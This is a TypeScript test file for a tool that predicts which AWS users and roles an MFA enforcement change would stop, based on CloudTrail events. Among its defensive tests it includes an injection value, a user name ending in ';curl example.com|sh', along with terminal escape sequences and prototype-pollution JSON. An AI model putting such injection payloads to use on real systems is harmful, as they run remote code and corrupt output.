import { stripVTControlCharacters } from "node:util";
import { decideTrust, type Limit, parseLimit, parsePolicy } from "aws-mfa-policy-pack/iam";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { LastUse, Report, Setup, Subject } from "../audit/report";
import { defaultSettings, settingsFrom } from "../audit/settings";
import { Trail } from "../audit/usage/trail/trail";
import { planOf } from "./build-plan";
import { type Asked, changeOf } from "./change";
import { exitCodeOf } from "./plan";
import { Rehearsal } from "./rehearsal";
import { planAsMarkdown, planAsText } from "./words";

const ACCOUNT = "111122223333";
const ALICE = `arn:aws:iam::${ACCOUNT}:user/alice`;
const ROLE = `arn:aws:iam::${ACCOUNT}:role/deploy`;
const NOW = new Date("2026-03-01T00:00:00Z");
const AT = "2026-02-01T10:00:00Z";

const subject = (kind: Subject["kind"], name: string, more: Partial<Subject> = {}): Subject => ({
  kind,
  name,
  id: `arn:aws:iam::${ACCOUNT}:${kind}/${name}`,
  standing: "open",
  reason: "",
  findings: [],
  notes: [],
  ...more,
});
const setup = (more: Partial<Setup> = {}): Setup => ({
  mfaDevice: false,
  password: null,
  accessKeys: [],
  guardedBy: [],
  ...more,
});
const used = (at: string) => [{ active: true, createdAt: AT, lastUsed: at }];
const alice = (more: Partial<Setup> = {}, rest: Partial<Subject> = {}) =>
  subject("user", "alice", { setup: setup(more), ...rest });
const lastUse: LastUse = { kind: "used", of: "role", at: AT };
const deploy = (more: Partial<Subject> = {}) =>
  subject("role", "deploy", {
    lastUse,
    assumableBy: [{ principal: `arn:aws:iam::${ACCOUNT}:root`, class: "account", mfa: "not required" }],
    ...more,
  });

const event = (more: Record<string, unknown> = {}, identity: object = {}) => ({
  eventTime: AT,
  eventSource: "s3.amazonaws.com",
  eventName: "ListBuckets",
  awsRegion: "us-east-1",
  sourceIPAddress: "192.0.2.1",
  userAgent: "aws-cli/2.15 os/linux",
  recipientAccountId: ACCOUNT,
  userIdentity: {
    type: "IAMUser",
    arn: ALICE,
    accountId: ACCOUNT,
    accessKeyId: "AKIAIOSFODNN7EXAMPLE",
    ...identity,
  },
  ...more,
});
const assume = (more: object = {}, identity: object = {}) =>
  event(
    {
      eventSource: "sts.amazonaws.com",
      eventName: "AssumeRole",
      requestParameters: { roleArn: ROLE, ...more },
    },
    identity,
  );
const session = (mfaAuthenticated: string) => ({
  accessKeyId: "ASIAIOSFODNN7EXAMPLE",
  sessionContext: { attributes: { mfaAuthenticated, creationDate: "2026-02-01T08:00:00Z" } },
});

interface Given {
  readonly asked?: Partial<Asked>;
  readonly subjects: readonly Subject[];
  /** Or the JSON text of one. */
  readonly events?: readonly (object | string)[];
  readonly since?: string;
  readonly isLookedUp?: boolean;
  readonly lacksRoleCalls?: boolean;
  readonly settings?: object;
}

function plan({ asked = {}, subjects, events = [], since, settings, ...period }: Given) {
  const report: Report = {
    version: 1,
    madeAt: NOW.toISOString(),
    places: [{ kind: "account", name: ACCOUNT, subjects }],
  };
  const used = settings === undefined ? defaultSettings() : settingsFrom(settings, "policies.json");
  const change = changeOf({ roles: [], limits: [], ...asked }, report, used);
  const rehearsal = new Rehearsal(change, report, { ...(since && { since }), ...period }, NOW);
  const trail = new Trail(rehearsal.add);
  for (const each of events)
    expect(trail.add(typeof each === "string" ? each : JSON.stringify(each))).toBeUndefined();
  return planOf(change, report, rehearsal, { trail, unread: [] }, NOW);
}
const said = ({ affected }: ReturnType<typeof plan>) =>
  affected.map(({ name, outcome, by }) => `${name} ${outcome} ${by}`);
function limit(kind: Limit["kind"], Statement: object): Limit {
  const read = parseLimit({ Version: "2012-10-17", Statement }, { kind, name: "given.json" });
  if (!read.ok) throw new Error(JSON.stringify(read.errors));
  return read.limit;
}
const json = (Statement: object) => ({ document: { Version: "2012-10-17", Statement }, file: "given.json" });

const DEEP = 20_000;
const LONG = "x".repeat(1_000_000);
/** An event whose parameters are this JSON text. */
const withParameters = (text: string) =>
  JSON.stringify(event({ requestParameters: "@" })).replace('"@"', () => text);

test.each<[string, object | string]>([
  ["deeply nested parameters", withParameters(`{"a": ${"[".repeat(DEEP)}${"]".repeat(DEEP)}}`)],
  ["a __proto__ parameter", withParameters('{"__proto__": {"serialNumber": "x"}, "constructor": {}}')],
  ["very long fields", event({ userAgent: LONG, eventName: LONG, sourceIPAddress: LONG })],
  ["control characters", event({ userAgent: "\u001b[2J\u0000", eventName: "\u001b]0;x\u0007" })],
  ["a time before year 0", event({ eventTime: "0000-01-01T00:00:00+23:59" })],
  ["a time after year 9999", event({ eventTime: "9999-12-31T23:59:59-23:59" })],
])("a call with %s counts like any other, and is printed safely", (_, hostile) => {
  const found = plan({ asked: { guard: {} }, subjects: [alice()], events: [hostile, event()] });
  expect(said(found)).toEqual(["alice stopped unclear"]);
  expect(found.affected[0]?.calls.reduce((all, { events }) => all + events, 0)).toBe(2);
  const text = stripVTControlCharacters(planAsText(found));
  expect(text.length).toBeLessThan(10_000);
  expect(text).not.toMatch(/(?!\n)\p{Cc}/u);
  expect(planAsText(found)).not.toContain("\u001b[2J");
});

describe("a guard stops", () => {
  const stopped = (each: object) => said(plan({ asked: { guard: {} }, subjects: [alice()], events: [each] }));

  test.each<[string, object, readonly string[]]>([
    ["a call with access keys and no code", event(), ["alice stopped unclear"]],
    ["a call from a session without MFA", event({}, session("false")), ["alice stopped unclear"]],
    ["no call from a session with MFA", event({}, session("true")), []],
    ["no AssumeRole call with a code", assume({ serialNumber: "arn:aws:iam::111122223333:mfa/alice" }), []],
    [
      "a call about an MFA device, which has a serial number but no code",
      event({
        eventSource: "iam.amazonaws.com",
        eventName: "DeactivateMFADevice",
        requestParameters: { serialNumber: "arn:aws:iam::111122223333:mfa/alice" },
      }),
      ["alice stopped unclear"],
    ],
    [
      "no call that it leaves open",
      event({ eventSource: "iam.amazonaws.com", eventName: "EnableMFADevice" }),
      [],
    ],
    [
      "no GetCallerIdentity call, which always works",
      event({ eventSource: "sts.amazonaws.com", eventName: "GetCallerIdentity" }),
      [],
    ],
    ["no call that AWS already denied", event({ errorCode: "AccessDenied" }), []],
    [
      "a call that failed for another reason",
      event({ errorCode: "NoSuchBucket" }),
      ["alice stopped unclear"],
    ],
    [
      "a call from a user's GetFederationToken session",
      event(
        {},
        {
          type: "FederatedUser",
          arn: `arn:aws:sts::${ACCOUNT}:federated-user/x`,
          sessionContext: { sessionIssuer: { arn: ALICE } },
        },
      ),
      ["alice stopped unclear"],
    ],
    [
      "a call that AWS allowed before it failed",
      event({
        eventSource: "kms.amazonaws.com",
        eventName: "Verify",
        errorCode: "KMSInvalidSignatureException",
      }),
      ["alice stopped unclear"],
    ],
    [
      "a call of aws login, which hands a console session to a terminal",
      event({ eventSource: "signin.amazonaws.com", eventName: "CreateOAuth2Token" }, session("false")),
      ["alice stopped unclear"],
    ],
    [
      "possibly a call whose service is not in the log",
      event({ eventSource: undefined }),
      ["alice may be stopped unclear"],
    ],
    ["no call from a role session", event({}, { type: "AssumedRole", ...session("false") }), []],
    ["no call of a user that the account does not have", event({}, { arn: `${ALICE}2` }), []],
  ])("%s", (_, each, expected) => {
    expect(stopped(each)).toEqual(expected);
  });

  test("only members of open groups and open users if all findings are fixed", () => {
    const subjects = [
      subject("group", "team", { members: [ALICE] }),
      alice({}, { standing: "protected" }),
      subject("user", "bob", { standing: "protected", setup: setup() }),
      subject("user", "carol", { setup: setup() }),
      subject("user", "dave", { setup: setup(), standing: "exempt" }),
    ];
    const by = (name: string) => event({}, { arn: ALICE.replace("alice", name) });
    const names = ["alice", "bob", "carol", "dave"].map(by);
    expect(said(plan({ subjects, events: names }))).toEqual([
      "alice stopped unclear",
      "carol stopped unclear",
    ]);
  });

  test("calls that its conditions match, and possibly those without the keys in the logs", () => {
    const outcome = (Condition: object) =>
      said(
        plan({
          asked: { guard: { policy: json({ Effect: "Deny", Action: "*", Resource: "*", Condition }) } },
          subjects: [alice()],
          events: [event()],
        }),
      );
    expect(outcome({ NotIpAddress: { "aws:SourceIp": "192.0.2.0/24" } })).toEqual([]);
    expect(outcome({ NotIpAddress: { "aws:SourceIp": "198.51.100.0/24" } })).toEqual([
      "alice stopped unclear",
    ]);
    expect(outcome({ StringEquals: { "aws:PrincipalTag/team": "x" } })).toEqual([
      "alice may be stopped unclear",
    ]);
    expect(outcome({ DateGreaterThan: { "aws:CurrentTime": "2030-01-01T00:00:00Z" } })).toEqual([
      "alice may be stopped unclear",
    ]);
  });
});

test("a Deny on iam:PassRole may stop a call that passes a role to a service", () => {
  const outcome = (requestParameters: object) =>
    said(
      plan({
        asked: { guard: { policy: json({ Effect: "Deny", Action: "iam:PassRole", Resource: "*" }) } },
        subjects: [alice()],
        events: [event({ eventSource: "ec2.amazonaws.com", eventName: "RunInstances", requestParameters })],
      }),
    );
  expect(outcome({ iamInstanceProfile: { name: "web" } })).toEqual(["alice may be stopped unclear"]);
  expect(outcome({ instanceType: "t3.nano" })).toEqual([]);
});

test.each([
  ["does not stop a call from an excluded public address", { sourceIPAddress: "192.0.2.1" }, []],
  [
    "stops a call through a VPC endpoint, which has no aws:SourceIp",
    { sourceIPAddress: "10.0.0.9", vpcEndpointId: "vpce-1" },
    ["alice stopped unclear"],
  ],
  [
    "may stop a call from a private address",
    { sourceIPAddress: "10.0.0.9" },
    ["alice may be stopped unclear"],
  ],
])("a Deny with NotIpAddress %s", (_, source, expected) => {
  const NotIpAddress = { "aws:SourceIp": ["192.0.2.0/24", "10.0.0.0/8"] };
  const policy = json({ Effect: "Deny", Action: "*", Resource: "*", Condition: { NotIpAddress } });
  const given = { asked: { guard: { policy } }, subjects: [alice()], events: [event(source)] };
  expect(said(plan(given))).toEqual(expected);
});

describe("the last uses that AWS recorded", () => {
  const guarded = (subjects: readonly Subject[], events: readonly object[] = [], since?: string) =>
    plan({ asked: { guard: {} }, subjects, events, ...(since && { since }) });

  test("count for an access key if the logs lack the call", () => {
    const found = guarded(
      [alice({ accessKeys: used("2026-02-20T00:00:00.000Z") })],
      [event({}, session("true"))],
    );
    expect(found.affected).toMatchObject([
      {
        name: "alice",
        outcome: "stopped",
        calls: [],
        unseenUses: [{ of: "access key", at: "2026-02-20T00:00:00.000Z" }],
      },
    ]);
    expect(exitCodeOf(found)).toBe(1);
  });

  test("add nothing if the logs show the call", () => {
    const events = [
      event({ eventTime: "2026-02-20T00:10:00Z", eventSource: "iam.amazonaws.com", eventName: "GetUser" }),
    ];
    const found = guarded([alice({ accessKeys: used("2026-02-20T00:00:00.000Z") })], events);
    expect(said(found)).toEqual([]);
    expect(exitCodeOf(found)).toBe(0);
  });

  test("count if the logs show only a call to another service", () => {
    const identity = event({
      eventTime: "2026-02-20T00:00:00Z",
      eventSource: "sts.amazonaws.com",
      eventName: "GetCallerIdentity",
    });
    const withKey = (lastUsedService: string) =>
      said(
        guarded(
          [
            alice({
              accessKeys: used("2026-02-20T00:00:00.000Z").map((key) => ({ ...key, lastUsedService })),
            }),
          ],
          [identity],
        ),
      );
    expect(withKey("s3")).toEqual(["alice stopped unclear"]);
    expect(withKey("sts")).toEqual([]);
  });

  test.each(["ConsoleLogin", "GetSessionToken"])(
    "count for a session that %s began without MFA if the logs lack its calls",
    (name) => {
      const at = "2026-02-20T00:00:00.000Z";
      const keys = name === "GetSessionToken";
      const user = alice(keys ? { accessKeys: used(at) } : { password: { lastUsed: at } });
      const eventSource = keys ? "sts.amazonaws.com" : "signin.amazonaws.com";
      const begun = event({ eventTime: at, eventSource, eventName: name });
      expect(said(guarded([user], [begun]))).toEqual(["alice stopped unclear"]);
      const coded = keys
        ? { requestParameters: { serialNumber: "mfa" } }
        : { additionalEventData: { MFAUsed: "Yes" } };
      expect(said(guarded([user], [{ ...begun, ...coded }]))).toEqual([]);
      const call = {
        ...{ eventTime: "2026-02-20T01:00:00Z", eventSource: "iam.amazonaws.com", eventName: "GetUser" },
        userIdentity: {
          ...begun.userIdentity,
          accessKeyId: "ASIAIOSFODNN7EXAMPLE",
          sessionContext: { attributes: { mfaAuthenticated: "false", creationDate: at } },
        },
      };
      expect(said(guarded([user], [begun, { ...begun, ...call }]))).toEqual([]);
    },
  );

  test("count before the first event if the event history was looked up", () => {
    const given = {
      asked: { guard: {} },
      subjects: [alice({ accessKeys: used("2026-01-20T00:00:00.000Z") })],
      events: [event({}, session("true"))],
    };
    expect(said(plan({ ...given, isLookedUp: true }))).toEqual(["alice stopped unclear"]);
  });

  test("do not count before the period", () => {
    const early = alice({ accessKeys: used("2026-01-20T00:00:00.000Z") });
    expect(said(guarded([early], [event({}, session("true"))]))).toEqual([]);
    expect(said(guarded([early], [], "2026-01-01T00:00:00.000Z"))).toEqual(["alice stopped unclear"]);
  });

  test("count for a password, unless the user has an MFA device", () => {
    const password = { lastUsed: "2026-02-20T00:00:00.000Z" };
    expect(said(guarded([alice({ password })]))).toEqual(["alice stopped unclear"]);
    expect(said(guarded([alice({ password, mfaDevice: true })]))).toEqual([]);
  });

  test("are needed to say that nobody would be stopped", () => {
    const { setup: _, ...unknown } = alice();
    const found = guarded([unknown], [event({}, session("true"))]);
    expect(exitCodeOf(found)).toBe(2);
    expect(planAsText(found)).toContain(
      "Nobody in these logs would be stopped. Whether anyone else would be is not known.",
    );
    expect(planAsText(guarded([alice()]))).toContain("Nobody would be stopped.");
  });

  test("count for a role if the logs lack its use", () => {
    const found = plan({ subjects: [deploy()], events: [event({ eventTime: "2026-01-15T00:00:00Z" })] });
    expect(found.unseen).toMatchObject([{ name: "deploy" }]);
    expect(exitCodeOf(found)).toBe(1);
  });

  test("count for a role if the logs show its sessions, but not who assumed it", () => {
    const calling = event(
      {},
      { type: "AssumedRole", arn: "x", sessionContext: { sessionIssuer: { arn: ROLE } } },
    );
    expect(plan({ subjects: [deploy()], events: [calling] }).unseen).toMatchObject([{ name: "deploy" }]);
    const assumed = assume({ serialNumber: "x" });
    expect(plan({ subjects: [deploy()], events: [assumed, calling] }).unseen).toEqual([]);
  });

  test("count for a role unless the logs show an AssumeRole call in the hours before", () => {
    const unseen = (eventTime: string) =>
      plan({
        subjects: [deploy()],
        events: [{ ...assume({ serialNumber: "x" }), eventTime }],
        isLookedUp: true,
      }).unseen.length;
    expect(unseen("2026-02-01T00:00:00Z")).toBe(0);
    expect(unseen("2026-01-31T00:00:00Z")).toBe(1);
    expect(unseen("2026-02-01T12:00:00Z")).toBe(1);
  });

  test("count for an access key if the logs show only calls in another region", () => {
    const accessKeys = used(AT).map((key) => ({ ...key, lastUsedRegion: "eu-west-1" }));
    const outcome = (awsRegion: string) =>
      said(
        guarded(
          [alice({ accessKeys })],
          [assume({ serialNumber: "x" }), { ...assume({ serialNumber: "x" }), awsRegion }],
        ),
      );
    expect(outcome("us-east-1")).toEqual(["alice stopped unclear"]);
    expect(outcome("eu-west-1")).toEqual([]);
  });

  test("may count for the root user under an SCP, and never under a guard", () => {
    const root = subject("user", "root", {
      id: `arn:aws:iam::${ACCOUNT}:root`,
      setup: setup({ accessKeys: used("2026-02-20T00:00:00.000Z") }),
    });
    const found = plan({
      asked: { limits: [limit("SCP", { Effect: "Deny", Action: "*", Resource: "*" })] },
      subjects: [root],
    });
    expect(found.affected).toMatchObject([{ outcome: "may be stopped", waysOut: [] }]);
    expect(plan({ asked: { guard: {} }, subjects: [root] }).affected).toEqual([]);
  });

  test("count for a role under an SCP only if it may stop the role", () => {
    const under = (Condition: object, subjects: readonly Subject[] = [deploy()]) =>
      plan({
        asked: { limits: [limit("SCP", { Effect: "Deny", Action: "s3:*", Resource: "*", Condition })] },
        subjects,
      });
    expect(under({}).unseen).toMatchObject([{ name: "deploy" }]);
    expect(under({ ArnLike: { "aws:PrincipalArn": "arn:*:iam::*:user/*" } }).unseen).toEqual([]);
    const { lastUse: _, ...unknown } = deploy();
    expect(exitCodeOf(under({}, [unknown]))).toBe(2);
  });

  test("show what was unused for 90 days, unless the logs show a use", () => {
    const old = deploy({ lastUse: { kind: "used", of: "role", at: "2025-06-01T00:00:00.000Z" } });
    expect(plan({ subjects: [old] }).unused).toMatchObject([{ kind: "role", name: "deploy" }]);
    expect(plan({ subjects: [old], events: [assume()] }).unused).toEqual([]);
    const fresh = deploy({
      lastUse: { kind: "not recorded", of: "role", createdAt: "2026-02-28T00:00:00.000Z" },
    });
    expect(plan({ subjects: [fresh] }).unused).toEqual([]);
  });
});

describe("a rehearsed change stops", () => {
  test.each<[string, object, readonly string[]]>([
    ["a caller who assumes a closed role without a code", assume(), ["alice stopped unclear"]],
    ["no caller who assumes a closed role with a code", assume({ serialNumber: "x" }), []],
    [
      "a role session that assumes a closed role",
      assume({}, { type: "AssumedRole", arn: "x", sessionContext: { sessionIssuer: { arn: ROLE } } }),
      ["deploy stopped unclear"],
    ],
    [
      "no service that assumes a closed role",
      assume(
        {},
        { type: "AWSService", invokedBy: "lambda.amazonaws.com", arn: undefined, accessKeyId: undefined },
      ),
      [],
    ],
    ["no caller who assumes another role", assume({ roleArn: `${ROLE}2` }), []],
    [
      "possibly a caller from another account, whose MFA the log does not show",
      assume(
        {},
        { type: "AWSAccount", arn: undefined, principalId: "AIDAEXAMPLE", accountId: "444455556666" },
      ),
      ["AIDAEXAMPLE may be stopped unclear"],
    ],
    [
      "a role session whose role the log does not name",
      assume({}, { type: "AssumedRole", arn: `arn:aws:sts::${ACCOUNT}:assumed-role/ci/x` }),
      ["x stopped unclear"],
    ],
    [
      "possibly a caller of an unknown type",
      assume({}, { type: "Unknown", arn: "y" }),
      ["y may be stopped unclear"],
    ],
  ])("%s", (_, each, expected) => {
    expect(said(plan({ subjects: [deploy()], events: [each] }))).toEqual(expected);
  });

  test("no principal that the configuration trusts", () => {
    const settings = { "iam-role-requires-mfa": { trustedPrincipalArns: [ALICE] } };
    expect(said(plan({ subjects: [deploy()], events: [assume()], settings }))).toEqual([]);
  });

  test("every caller that the role's new trust policy does not let in", () => {
    const outcome = (Principal: object, Condition: object = {}) =>
      said(
        plan({
          asked: {
            roles: [
              {
                name: "deploy",
                ...json({ Effect: "Allow", Principal, Action: "sts:AssumeRole", Condition }),
              },
            ],
          },
          subjects: [deploy()],
          events: [assume({ externalId: "blue" })],
        }),
      );
    expect(outcome({ AWS: ALICE })).toEqual([]);
    expect(outcome({ AWS: ACCOUNT }, { StringEquals: { "sts:ExternalId": "blue" } })).toEqual([]);
    expect(outcome({ AWS: ACCOUNT }, { StringEquals: { "sts:ExternalId": "green" } })).toEqual([
      "alice stopped unclear",
    ]);
    expect(outcome({ AWS: `${ALICE}2` })).toEqual(["alice stopped unclear"]);
    expect(() => plan({ asked: { roles: [{ name: "x", ...json([]) }] }, subjects: [] })).toThrow("no role x");
  });

  test("users and roles under an SCP, but no service-linked role", () => {
    const limits = [limit("SCP", { Effect: "Deny", Action: "s3:*", Resource: "*" })];
    const as = (role: string) =>
      event({}, { type: "AssumedRole", sessionContext: { sessionIssuer: { arn: role } } });
    const linked = `arn:aws:iam::${ACCOUNT}:role/aws-service-role/x.amazonaws.com/y`;
    const events = [
      event(),
      as(ROLE),
      as(linked),
      event({ eventSource: "iam.amazonaws.com" }, { arn: `${ALICE}2` }),
    ];
    expect(said(plan({ asked: { limits }, subjects: [alice()], events }))).toEqual([
      "deploy stopped unclear",
      "alice stopped unclear",
    ]);
    const elsewhere = limits.map((each) => ({ ...each, accounts: new Set(["444455556666"]) }));
    expect(plan({ asked: { limits: elsewhere }, subjects: [alice()], events }).affected).toEqual([]);
  });

  test("every caller without MFA on the account's own roles under an RCP", () => {
    const deny = { Effect: "Deny", Principal: "*", Action: "sts:*", Resource: "*" };
    const limits = [limit("RCP", { ...deny, Condition: { Null: { "aws:MultiFactorAuthAge": "true" } } })];
    const pipeline = { type: "WebIdentityUser", identityProvider: "token.actions.githubusercontent.com" };
    const oidc = { ...assume({}, pipeline), eventName: "AssumeRoleWithWebIdentity" };
    const mallory = assume({}, { arn: "arn:aws:iam::444455556666:user/mallory", accountId: "444455556666" });
    const away = assume({ roleArn: "arn:aws:iam::444455556666:role/deploy" });
    const events = [
      event(),
      oidc,
      mallory,
      away,
      assume({ serialNumber: "arn:aws:iam::111122223333:mfa/a" }),
    ];
    const { affected, unseen } = plan({ asked: { limits }, subjects: [alice(), deploy()], events });
    expect(affected.map(({ name, outcome, calls }) => [name, outcome, calls.length])).toEqual([
      ["mallory", "stopped", 1],
      ["token.actions.githubusercontent.com", "stopped", 1],
    ]);
    expect(unseen).toEqual([]);
    expect(plan({ asked: { limits }, subjects: [deploy()], events: [] }).unseen).toHaveLength(1);
  });
});

test("a user whose SSH public keys are unknown is not listed as unused", () => {
  const old = used("2024-01-01T00:00:00.000Z");
  const lastUse: LastUse = { kind: "used", of: "access key", at: "2024-01-01T00:00:00.000Z" };
  const unusedWith = (more: object) => {
    const subjects = [alice({ accessKeys: old, serviceCredentials: [], ...more }, { lastUse })];
    return plan({ asked: { guard: {} }, subjects }).unused;
  };
  expect(unusedWith({ sshPublicKeys: 0 })).toMatchObject([{ kind: "user", name: "alice" }]);
  expect(unusedWith({})).toEqual([]);
});

test("a user with a service-specific credential is reported as a gap, not as unused", () => {
  const old = {
    accessKeys: used("2024-01-01T00:00:00.000Z"),
    serviceCredentials: [{ service: "bedrock.amazonaws.com" }],
  };
  const lastUse: LastUse = { kind: "used", of: "access key", at: "2024-01-01T00:00:00.000Z" };
  const given = { asked: { guard: {} }, subjects: [alice(old, { lastUse })] };
  const found = plan(given);
  expect(found.unused).toEqual([]);
  expect(found.gaps).toMatchObject([{ problem: expect.stringContaining("SSH public keys of alice") }]);
  expect(exitCodeOf(found)).toBe(2);
  const call = event({}, { accessKeyId: "ACCAEXAMPLE123EXAMPLE" });
  expect(said(plan({ ...given, events: [call] }))).toEqual(["alice stopped unclear"]);
});

describe("the way out", () => {
  const guarded = (userAgent: string, more: Partial<Setup> = {}) =>
    plan({ asked: { guard: {} }, subjects: [alice(more)], events: [event({ userAgent })] });

  test("includes no enroll command for a user name that a log made up", () => {
    const arn = `arn:aws:iam::${ACCOUNT}:user/x;curl example.com|sh`;
    const made = plan({ subjects: [deploy()], events: [assume({}, { arn })] });
    expect(made.affected).toHaveLength(1);
    expect(made.affected[0]?.waysOut.map(({ kind }) => kind)).not.toContain("enroll");
  });

  test("for a person is to enroll a device", () => {
    const { affected, exemptions } = guarded("aws-cli/2 os/macos#25.0");
    expect(affected[0]?.waysOut).toEqual([
      { kind: "enroll", command: "aws-mfa enroll alice --stack STACK", hasDevice: false },
    ]);
    expect(exemptions).toEqual({});
  });

  test.each([
    [["passkey"] as const, false],
    [["hardware", "passkey"] as const, true],
  ])(
    "for a person with the devices %j is to enroll, with a device that gives codes: %s",
    (deviceKinds, hasDevice) => {
      const { affected } = guarded("aws-cli/2 os/macos#25.0", { mfaDevice: true, deviceKinds });
      expect(affected[0]?.waysOut).toMatchObject([{ kind: "enroll", hasDevice }]);
    },
  );

  test("for a GitHub Actions job is its own role, which the pack exempts", () => {
    const { affected } = guarded("aws-sdk-js/3 configure-aws-credentials-for-github-actions");
    const own = affected[0]?.waysOut.find(({ kind }) => kind === "own role");
    expect(own).toMatchObject({ of: "GitHub Actions" });
    const parsed = parsePolicy(own?.kind === "own role" ? own.trust : undefined, "trust");
    expect(parsed.ok && decideTrust(parsed.policy).kind).toBe("exempt");
  });

  test("for what must wait is an exemption, with which nobody would be stopped", () => {
    const group = subject("group", "team", { members: [ALICE] });
    const events = [event(), assume()];
    const { exemptions } = plan({ subjects: [alice(), deploy(), group], events });
    expect(exemptions).toEqual({
      "iam-user-requires-mfa": {
        exemptions: [{ name: "alice", reason: "Used without MFA by alice", expires: "2026-05-30" }],
      },
      "iam-role-requires-mfa": {
        exemptions: [{ name: "deploy", reason: "Used without MFA by alice", expires: "2026-05-30" }],
      },
    });
    expect(() => settingsFrom(exemptions, "policies.json")).not.toThrow();
    const exempt = { standing: "exempt" } as const;
    expect(said(plan({ subjects: [alice({}, exempt), deploy(exempt), group], events }))).toEqual([]);
  });
});

test("roles' calls are a gap under an SCP if only the event history was looked up", () => {
  const role = deploy({ lastUse: { kind: "used", of: "role", at: "2024-01-01T00:00:00.000Z" } });
  const given = { subjects: [role], isLookedUp: true, lacksRoleCalls: true };
  const limits = [limit("SCP", { Effect: "Deny", Action: "s3:*", Resource: "*" })];
  expect(exitCodeOf(plan({ ...given, asked: { limits } }))).toBe(2);
  expect(exitCodeOf(plan({ ...given, lacksRoleCalls: false, asked: { limits } }))).toBe(0);
  expect(exitCodeOf(plan(given))).toBe(0);
});

test("the plan as text and as Markdown escapes what the logs contain", () => {
  const userAgent = "x\u001b[2K\n# <b>*y*";
  const found = plan({ asked: { guard: {} }, subjects: [alice()], events: [event({ userAgent })] });
  const text = planAsText(found);
  expect(text).toContain("user alice would be stopped (a person or a machine)");
  expect(text).toMatch(/s3:ListBuckets: 1 time, last on 2026-02-01, without MFA from 192.0.2.1, x\\u001b/);
  expect(text).toContain("aws-mfa enroll alice --stack STACK");
  expect(planAsMarkdown(found)).not.toMatch(/^# <|<b>|\*y\*/m);
});

test("hiding parts of a call leaves its outcome the same or undecided", () => {
  const policy = json([
    {
      Effect: "Deny",
      NotAction: ["iam:GetUser", "s3:*"],
      Resource: "*",
      Condition: { BoolIfExists: { "aws:MultiFactorAuthPresent": "false" } },
    },
    {
      Effect: "Deny",
      Action: "s3:*",
      Resource: "*",
      Condition: { NotIpAddress: { "aws:SourceIp": "192.0.2.0/24" } },
    },
  ]);
  const outcomeOf = (each: object) =>
    plan({ asked: { guard: { policy } }, subjects: [alice()], events: [each] }).affected[0]?.outcome ??
    "passes";
  fc.assert(
    fc.property(
      fc.constantFrom("s3 ListBuckets", "iam GetUser", "iam ListUsers", "ec2 RunInstances"),
      fc.constantFrom("192.0.2.1", "203.0.113.7"),
      fc.constantFrom({}, session("true"), session("false")),
      fc.subarray(["sourceIPAddress", "userIdentity.accessKeyId", "userIdentity.sessionContext"]),
      (call, sourceIPAddress, identity, hidden) => {
        const [service, eventName] = call.split(" ");
        const whole = event(
          { eventSource: `${service}.amazonaws.com`, eventName, sourceIPAddress },
          identity,
        );
        const less = {
          ...whole,
          ...(hidden.includes("sourceIPAddress") && { sourceIPAddress: undefined }),
          userIdentity: {
            ...whole.userIdentity,
            ...(hidden.includes("userIdentity.accessKeyId") && { accessKeyId: undefined }),
            // Without it, the MFA of a temporary key is unknown; a permanent key loses nothing.
            ...(hidden.includes("userIdentity.sessionContext") && { sessionContext: undefined }),
          },
        };
        expect([outcomeOf(whole), "may be stopped"]).toContain(outcomeOf(less));
      },
    ),
    { numRuns: 200 },
  );
});
